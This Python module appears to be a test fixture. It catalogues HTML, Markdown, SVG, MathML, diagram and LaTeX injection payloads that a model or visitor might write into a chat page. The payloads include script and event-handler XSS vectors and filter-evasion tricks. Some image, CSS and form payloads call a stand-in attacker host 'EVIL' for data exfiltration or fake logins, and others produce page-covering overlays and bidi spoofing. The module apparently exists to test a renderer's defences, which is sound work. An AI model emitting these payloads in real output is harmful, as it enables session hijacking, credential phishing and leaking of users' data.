"""What a model or a visitor may write against the page, by kind. EVIL stands for another server."""

FULL = "position:fixed;inset:0;z-index:2147483647;background:#fff"

OUTPUTS = {
    "script": (
        "<script>window.ran = 1</script>",
        "<script src='EVIL/x.js'></script>",
        "<SCRIPT/SRC=EVIL/x.js></SCRIPT>",
        "<scr<script>ipt>window.ran = 1</scr</script>ipt>",
        "<script type=module>window.ran = 1</script>",
        "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
        "<template><script>window.ran = 1</script></template>",
        "<xmp><script>window.ran = 1</script>",
        "<!--><script>window.ran = 1</script>-->",
        "<plaintext><script>window.ran = 1</script>",
        "```html\n<script>window.ran = 1</script>\n```",
        '```"><img src=x onerror=window.ran=1>\ncode\n```',
    ),
    "events": (
        "<img src=x onerror=window.ran=1>",
        "<body onload=window.ran=1>",
        "<details open ontoggle=window.ran=1><summary>more</summary></details>",
        "<p onpointerover=window.ran=1 onclick=window.ran=1>over</p>",
        "<input autofocus onfocus=window.ran=1>",
        "<br onanimationstart=window.ran=1 style='animation:x 1s'>",
        "<a onclick=window.ran=1 href='#'>here</a>",
    ),
    "URLs": (
        "[click](javascript:window.ran=1)",
        "[click](JaVaScRiPt&colon;window.ran=1)",
        "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)",
        "[click](vbscript:window.ran=1)",
        "<a href='java\tscript:window.ran=1'>click</a>",
        "<javascript:window.ran=1>",
        "[x]: javascript:window.ran=1\n\n[x]",
        "![pixel](EVIL/pixel.png)",
        "![pixel][p]\n\n[p]: EVIL/pixel.png",
        "[![picture](EVIL/a.png)](EVIL/b)",
        "<a href='EVIL/ping' ping='EVIL/ping'>click</a>",
        '[a](EVIL/ "><img src=x onerror=window.ran=1>")',
    ),
    "SVG": (
        "<svg onload=window.ran=1></svg>",
        "<svg><script>window.ran = 1</script></svg>",
        "<svg><a xlink:href='javascript:window.ran=1'><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src='EVIL/'></iframe></foreignObject></svg>",
        "<svg><use href='EVIL/x.svg#x'/></svg>",
        "<svg><image href='EVIL/x.png'/></svg>",
        "<svg><animate attributeName=href values=javascript:window.ran=1 /></svg>",
        "<svg></p><style><a id='</style><img src=x onerror=window.ran=1>'>",
    ),
    "MathML": (
        "<math href='javascript:window.ran=1'>x</math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
        "<math><annotation-xml encoding='text/html'><script>window.ran = 1</script></annotation-xml></math>",
    ),
    "diagrams": (
        "```mermaid\ngraph TD; A[<img src=x onerror=window.ran=1>] --> B\n```",
        '```mermaid\ngraph TD; A --> B; click A "javascript:window.ran=1"\n```',
        "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; A-->B\n```",
    ),
    "mathematics": (
        r"$\href{javascript:window.ran=1}{x}$",
        r"$\htmlStyle{position:fixed;inset:0}{x}$",
        r"$\htmlData{x=1}{\htmlClass{show}{x}}$",
        r"$\includegraphics[width=9em]{EVIL/x.png}$",
        r"$\rule{9999em}{9999em}$",
        r"$\raise{900em}{\rule{99em}{99em}}$",
        r"$\def\a{\a\a}\a$",
        r"$$\hspace{-900em}\Huge x\hspace{9000em}$$",
    ),
    "style sheets": (
        "<style>#message { display: none } * { background: url(EVIL/css.png) }</style>",
        "<link rel=stylesheet href='EVIL/x.css'>",
        "<p style='background:url(EVIL/css.png)'>x</p>",
        "<style>@import 'EVIL/x.css';</style>",
    ),
    "forms": (
        "<form action='EVIL/'><input name=password type=password><button>Log in</button></form>",
        "<button formaction='EVIL/' onclick=window.ran=1>Retry</button>",
        "<textarea>Your password</textarea>",
        "<select><option>x</select>",
        "- [ ] a box\n- [x] another",
        "<dialog open>Log in again: <input></dialog>",
        "<label for=x>Send</label><div contenteditable>x</div>",
    ),
    "media and frames": (
        "<iframe src='EVIL/'></iframe>",
        "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
        "<object data='EVIL/x'></object><embed src='EVIL/x'>",
        "<video src='EVIL/x.mp4' poster='EVIL/x.png' autoplay></video>",
        "<audio src='EVIL/x.mp3' autoplay onerror=window.ran=1></audio>",
        "<picture><source srcset='EVIL/x.png'><img src='EVIL/y.png'></picture>",
    ),
    "the document": (
        "<meta http-equiv=refresh content='0;url=EVIL/'>",
        "<base href='EVIL/'>",
        "<title>Another page</title>",
        "<a id=conversations></a><a name=turns></a><form id=message></form>",
    ),
    "overlays": (
        f"<div style='{FULL}'>Your session has ended.</div>",
        f"<a href='EVIL/' style='{FULL}'>Log in</a>",
        "<div style='position:absolute;top:-3000px;left:-3000px;width:9000px;height:9000px'>x</div>",
        "<div style='margin:-2000px;padding:2000px;transform:scale(50)'>x</div>",
        "<div class='modal fixed' id='chat' popover>x</div>",
        "<p style='font-size:5000px;line-height:0'>W</p>",
        "Z" + "\u0336\u0489\u0310\u0341" * 200,
    ),
    "bidi controls": (
        "\u202eevil.txt\u202c and \u2066never closed",
        "\u202d\u202e\u2067\u2068" * 30 + "x",
        "\u200f\u061c!dneS sserP",
    ),
}


def outputs(server):
    """All of them, against this server."""
    return [each.replace("EVIL", server) for kind in OUTPUTS.values() for each in kind]
